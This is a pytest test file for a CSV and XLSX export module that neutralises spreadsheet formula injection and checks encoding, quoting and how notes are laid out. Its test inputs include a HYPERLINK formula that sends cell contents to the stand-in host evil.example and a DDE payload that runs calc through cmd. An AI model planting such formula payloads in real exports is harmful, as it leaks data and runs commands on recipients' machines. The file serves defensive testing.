"""Downloads: UTF-8 CSV and XLSX whose text can never run as a spreadsheet formula."""

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from needs.exports import neutralise, to_csv_bytes, to_xlsx_bytes
from tests.downloads import csv_frame, csv_rows, formulas, opened_in_a_spreadsheet
from tests.hostile_text import HOSTILE

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
NOTES = ["Synthetic demo data", "Rates: Adult Psychiatric Morbidity Survey 2014 (2016)"]


def printable(text: str) -> str:
    """The text without the control characters a spreadsheet file cannot hold (tab and line
    breaks stay)."""
    return "".join(ch for ch in text if ch in "\t\r\n" or (" " <= ch != "\x7f"))


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Code": ["E07900001", "E07900002", "E07900003"],
            "Name": ["Redditch", HYPERLINK, "Bromsgrove – north"],
            "Estimated people": [1234.5, -2.25, None],
        }
    )


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=x",
        "\r=x",
        "  =1+1",
        " @x",
        "-",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Redditch", "Bromsgrove – north", "", "a=b", "'=already", 12, -1, -2.5, None, "-2.2216", "+1"],
)
def test_plain_text_numbers_and_missing_values_are_left_alone(value):
    assert neutralise(value) is value


def test_the_csv_starts_with_a_utf8_byte_order_mark_so_excel_reads_it_as_utf8():
    content = to_csv_bytes(table(), notes=NOTES)
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Bromsgrove – north".encode() in content


def test_every_csv_cell_is_quoted_and_the_notes_come_first_each_one_quoted_cell():
    content = to_csv_bytes(table(), notes=NOTES)
    text = content.decode("utf-8-sig")
    assert text.splitlines()[:4] == [
        f'"# {NOTES[0]}"',
        f'"# {NOTES[1]}"',
        '"Code","Name","Estimated people"',
        '"E07900001","Redditch","1234.5"',
    ]
    notes, rows = csv_rows(content)
    assert notes == NOTES
    assert rows[0] == ["Code", "Name", "Estimated people"]
    assert len(rows) == 4


def test_a_note_or_a_name_with_commas_stays_in_one_cell():
    source = "Rates: Adult Psychiatric Morbidity Survey, 2014; NHS Digital, Leeds"
    frame = pd.DataFrame({"Name": ["Malvern, Hills"], "n": [1]})
    notes, rows = csv_rows(to_csv_bytes(frame, notes=[source]))
    assert notes == [source]
    assert rows == [["Name", "n"], ["Malvern, Hills", "1"]]


def test_the_csv_reads_back_with_pandas_below_its_notes():
    frame = csv_frame(to_csv_bytes(table(), notes=NOTES))
    assert list(frame.columns) == ["Code", "Name", "Estimated people"]
    assert frame["Estimated people"].iloc[:2].tolist() == [1234.5, -2.25]
    assert frame["Estimated people"].isna().iloc[2]


def test_a_formula_in_a_csv_cell_is_neutralised_and_numbers_are_not():
    _, rows = csv_rows(to_csv_bytes(table(), notes=NOTES))
    names = [r[1] for r in rows[1:]]
    assert names == ["Redditch", "'" + HYPERLINK, "Bromsgrove – north"]
    assert rows[2][2] == "-2.25"  # a negative number stays a number
    assert rows[3][2] == ""  # missing, not "nan"


def test_a_formula_in_a_note_or_a_header_is_neutralised_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    notes, rows = csv_rows(to_csv_bytes(frame, notes=["=cmd()"]))
    assert notes == ["'=cmd()"]
    assert rows[0] == ["'=1+1"]


def test_a_note_with_a_line_break_stays_one_note():
    content = to_csv_bytes(table(), notes=[f"Rates: Local survey\n{HYPERLINK}"])
    notes, rows = csv_rows(content)
    assert notes == [f"Rates: Local survey {HYPERLINK}"]
    assert rows[0] == ["Code", "Name", "Estimated people"]


def test_hostile_names_each_stay_in_their_own_cell():
    frame = pd.DataFrame({"Name": list(HOSTILE), "n": range(len(HOSTILE))})
    _, rows = csv_rows(to_csv_bytes(frame, notes=[]))
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(HOSTILE))]
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] in {printable(text), "'" + printable(text)}


def test_hostile_names_in_the_xlsx_are_text_without_control_characters():
    book = workbook(to_xlsx_bytes(pd.DataFrame({"Name": list(HOSTILE)}), title="t", notes=[]))
    cells = [cell for (cell,) in book["Data"].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    assert [cell.value for cell in cells] == [
        "'" + printable(text) if text.startswith("=") else printable(text) for text in HOSTILE
    ]


def test_every_download_opened_in_a_spreadsheet_holds_no_formula(tmp_path):
    """Gnumeric opens the CSV as an analyst would: no cell is a formula, each hostile name,
    each note and a source with commas lands in one cell, and numbers stay numbers."""
    source = "Rates: Adult Psychiatric Morbidity Survey, 2014 (NHS Digital, 2016)"
    names = ["Malvern, Hills", *HOSTILE, "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
    frame = pd.DataFrame({"Name": names, "People": [-2.25] * len(names)})
    sheet = opened_in_a_spreadsheet(
        to_csv_bytes(frame, notes=[source, "=1+1", HYPERLINK]), tmp_path
    )
    assert formulas(sheet) == []
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == f"# {source}" and set(rows[0][1:]) <= {None}
    assert rows[1][0] == "# '=1+1" and rows[2][0] == f"# '{HYPERLINK}"
    assert rows[3][:2] == ["Name", "People"]
    for row, text in zip(rows[4:], names, strict=True):
        shown = str(row[0]).replace("\r\n", "\n").replace("\r", "\n")
        wanted = printable(text).replace("\r\n", "\n").replace("\r", "\n")
        assert shown in {wanted, "'" + wanted}, (text, row)
        assert row[1] == -2.25


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_the_xlsx_has_a_data_sheet_with_the_columns_and_a_notes_sheet():
    book = workbook(to_xlsx_bytes(table(), title="Common mental disorder, 2023", notes=NOTES))
    assert book.sheetnames == ["Data", "Notes"]
    data = book["Data"]
    assert [cell.value for cell in data[1]] == ["Code", "Name", "Estimated people"]
    assert all(cell.font.bold for cell in data[1])
    assert [cell.value for cell in data["A"][1:]] == ["E07900001", "E07900002", "E07900003"]
    assert data["C2"].value == 1234.5 and data["C2"].data_type == "n"
    assert data["C4"].value is None  # missing, not "nan"
    notes = [row[0] for row in book["Notes"].iter_rows(values_only=True)]
    assert notes == ["Common mental disorder, 2023", *NOTES]


def test_a_malicious_name_in_the_xlsx_is_stored_as_text_not_as_a_formula():
    book = workbook(to_xlsx_bytes(table(), title="t", notes=["=1+1"]))
    cell = book["Data"]["B3"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK
    assert book["Notes"]["A2"].data_type == "s"
    assert book["Notes"]["A2"].value == "'=1+1"
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_a_column_header_that_looks_like_a_formula_is_stored_as_text():
    book = workbook(to_xlsx_bytes(pd.DataFrame({"=1+1": ["a"]}), title="t", notes=[]))
    assert book["Data"]["A1"].data_type == "s"
